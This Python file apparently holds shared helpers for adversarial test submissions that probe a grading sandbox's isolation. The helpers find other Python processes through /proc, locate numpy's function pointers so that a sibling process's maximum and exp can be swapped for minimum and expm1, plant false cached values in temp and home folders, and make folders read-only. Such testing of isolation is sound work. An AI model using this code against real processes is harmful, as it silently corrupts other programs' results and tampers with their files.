# The helpers every attack in this folder uses, prepended to each attack when it is handed in
# (a student would paste them in): finding what to attack, rewriting numpy in another process,
# planting files where an honest student keeps its own.
# ruff: noqa
import ctypes
import json
import os
import resource
import signal
import socket
import struct
import sys
import tempfile
import time

import numpy as np


def _targets():
    """The process it was forked from and every other Python process it can see."""
    found = {os.getppid()} - {0}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                    if b"python" in cmdline.read():
                        found.add(int(entry))
            except OSError:
                pass
    return sorted(found)


def _read_own(address, size):
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        mem.seek(address)
        return mem.read(size)


def _value_slot(namespace, name):
    """Address of the value pointer of `name` in the dict `namespace`: a forked process has
    its parent's layout, so the same address holds the same slot there."""
    key = next(k for k in namespace if k == name)
    pattern = struct.pack("<QQ", id(key), id(namespace[name]))
    table = struct.unpack("<Q", _read_own(id(namespace) + 32, 8))[0]  # PyDictObject.ma_keys
    data = b""
    for start in range(0, 1 << 20, 4096):
        try:
            data += _read_own(table + start, 4096)
        except OSError:
            break
        hit = data.find(pattern)
        if hit >= 0:
            return table + hit + 8
    return None


def _patches():
    """(address, new pointer) pairs that make numpy.maximum be numpy.minimum and numpy.exp be
    numpy.expm1 in a process forked from the same parent."""
    namespace = vars(np)
    patches = []
    for name, other in (("maximum", "minimum"), ("exp", "expm1")):
        slot = _value_slot(namespace, name)
        if slot is not None:
            patches.append((slot, struct.pack("<Q", id(namespace[other]))))
    return patches


def _plant():
    """What an honest student reads back: its cached constant set to 0.5, its log replaced by
    a folder, everywhere it keeps them; and its working folder and home made read-only."""
    planted = []
    folders = [os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/tmp",
               "/dev/shm", "/var/tmp"]
    for folder in folders:
        try:
            with open(os.path.join(folder, "activation-scale-@@RUN@@.txt"), "w") as cache:
                cache.write("0.5")
            planted.append(folder)
        except OSError:
            pass
        try:
            os.mkdir(os.path.join(folder, "calls-@@RUN@@.log"))
        except OSError:
            pass
    for folder in folders[:2]:
        try:
            os.chmod(folder, 0o555)
        except OSError:
            pass
    return planted


def _zeros(x):
    return np.zeros_like(np.asarray(x, dtype=float))
